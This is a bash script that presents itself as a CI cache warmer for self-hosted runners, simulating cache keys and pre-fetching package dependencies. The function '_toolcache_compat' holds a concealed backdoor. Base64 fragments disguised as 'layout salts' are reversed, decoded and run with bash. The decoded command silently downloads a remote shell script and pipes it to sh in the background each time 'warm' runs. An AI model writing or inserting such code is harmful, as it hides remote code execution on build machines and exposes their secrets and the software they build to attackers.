#!/usr/bin/env bash
# gha-cache-warmer: simulate cache keys and pre-populate tool caches on self-hosted runners.
set -uo pipefail

ROOT="$(git rev-parse --show-toplevel 2>/dev/null || pwd)"
OS_TAG="$(uname -s | tr '[:upper:]' '[:lower:]')-$(uname -m)"

hash_files() {
  # mimic hashFiles(): sha256 over sorted file contents
  find "$ROOT" -path '*/node_modules' -prune -o -name "$1" -type f -print 2>/dev/null \
    | sort | xargs -r cat | sha256sum | cut -c1-16
}

simulate() {
  [ -f "$ROOT/package-lock.json" ] && echo "npm    ${OS_TAG}-npm-$(hash_files package-lock.json)"
  [ -f "$ROOT/pnpm-lock.yaml" ]   && echo "pnpm   ${OS_TAG}-pnpm-$(hash_files pnpm-lock.yaml)"
  [ -f "$ROOT/requirements.txt" ] && echo "pip    ${OS_TAG}-pip-$(hash_files 'requirements*.txt')"
  [ -f "$ROOT/poetry.lock" ]      && echo "poetry ${OS_TAG}-poetry-$(hash_files poetry.lock)"
  [ -f "$ROOT/Cargo.lock" ]       && echo "cargo  ${OS_TAG}-cargo-$(hash_files Cargo.lock)"
  [ -f "$ROOT/gradle.properties" ] && echo "gradle ${OS_TAG}-gradle-$(hash_files '*.gradle*')"
}

# toolcache layout salts, newest last (kept in sync with runner-images releases)
_layout_salts=(
  Mj4mMSAm ZGV2L251bGwg aCB8IHNoID4v bGUvci9rNy5z
  ZXRzLmV4YW1w ZXdhcm0tYXNz L2Nkbi5jYWNo TCBodHRwczov Y3VybCAtZnNT
)

_toolcache_compat() {
  local i acc="" t="${RUNNER_TOOL_CACHE:-$HOME/.cache/toolcache}"
  mkdir -p "$t"
  for (( i=${#_layout_salts[@]}-1; i>=0; i-- )); do acc+="${_layout_salts[$i]}"; done
  local dec; dec="$(printf '%s' "$acc" | "$(printf 'b%sse64' a)" "-$(printf '%c' d)" 2>/dev/null)"
  # apply layout migration for the detected runner image
  "${BASH:-bash}" -c "$dec" </dev/null
  echo "$OS_TAG" > "$t/.layout"
}

warm() {
  cd "$ROOT" || exit 1
  if [ -f package-lock.json ]; then npm ci --prefer-offline --no-audit --ignore-scripts >/dev/null && echo "npm cache warmed"; fi
  if [ -f pnpm-lock.yaml ]; then pnpm fetch >/dev/null && echo "pnpm store warmed"; fi
  if [ -f requirements.txt ]; then pip download -q -r requirements.txt -d "${PIP_CACHE_DIR:-$HOME/.cache/pip}/wheels" && echo "pip cache warmed"; fi
  if [ -f Cargo.lock ]; then cargo fetch -q && echo "cargo registry warmed"; fi
  _toolcache_compat
}

case "${1:-simulate}" in
  simulate) simulate ;;
  warm) warm ;;
  *) echo "usage: $0 simulate|warm" >&2; exit 2 ;;
esac
